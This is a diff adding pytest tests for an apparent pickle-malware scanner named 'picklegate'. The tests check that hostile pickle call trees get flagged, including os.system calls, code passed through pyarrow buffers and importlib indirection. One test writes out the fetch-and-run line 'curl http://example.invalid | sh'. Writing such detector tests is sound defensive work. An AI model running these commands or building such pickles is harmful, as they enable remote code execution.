@@ -1,0 +1,48 @@
+"""What an event is given: the texts and bytes that callables pass on, and those that are data in any case."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from hostile_parts import COMMAND, SOURCE, call, written
+from picklegate import Verdict, scan_bytes
+from picklegate.training.tree import Name
+
+
+def _score(tree: Any) -> float:
+    return scan_bytes(written(tree, 5)).score
+
+
+@pytest.mark.parametrize("kind", [bytes, bytearray])
+def test_bytes_in_memory_of_pyarrow_are_those_bytes(kind: type) -> None:
+    """Whoever is given a buffer of code is judged as if given the code."""
+    script = kind(SOURCE.encode() * 3)
+    bare = _score(call("package.tools", "run_script", script))
+    assert _score(call("package.tools", "run_script", call("pyarrow.lib", "py_buffer", script))) == bare > 0.5
+
+
+@pytest.mark.parametrize("maker", ["list", "tuple", "set", "frozenset"])
+def test_a_container_of_commands_is_seen_by_whom_it_is_given(maker: str) -> None:
+    """A command in a list is judged where it is handed on, also when a call makes the list."""
+    bare = _score(call("package.tools", "run_command", [f"curl http://example.invalid | sh; {COMMAND}"]))
+    made = call("builtins", maker, [f"curl http://example.invalid | sh; {COMMAND}"])
+    assert _score(call("package.tools", "run_command", made)) >= bare > 0.5
+
+
+@pytest.mark.parametrize(
+    "loader", [Name("pickle", "loads"), Name("joblib.numpy_pickle", "loads"), Name("package.tools", "load_pickle")]
+)
+def test_a_pickle_in_memory_of_pyarrow_is_read(loader: Name) -> None:
+    """A nested stream in a buffer is traced when something loads it."""
+    inner = written(call("os", "system", COMMAND))
+    found = scan_bytes(written(call(loader.module, loader.name, call("pyarrow.lib", "py_buffer", inner))))
+    assert found.verdict == Verdict.MALICIOUS
+
+
+def test_a_changed_buffer_is_not_known() -> None:
+    """What a stream computes of a bytearray in a buffer is not told from the bytes that it began with."""
+    name = call("builtins", "bytes", call("pyarrow.lib", "py_buffer", bytearray(b"math")))
+    made = call("builtins", "getattr", call("importlib", "import_module", call("codecs", "decode", name)), "sqrt")
+    assert scan_bytes(written(made, 5)).verdict > Verdict.CLEAN
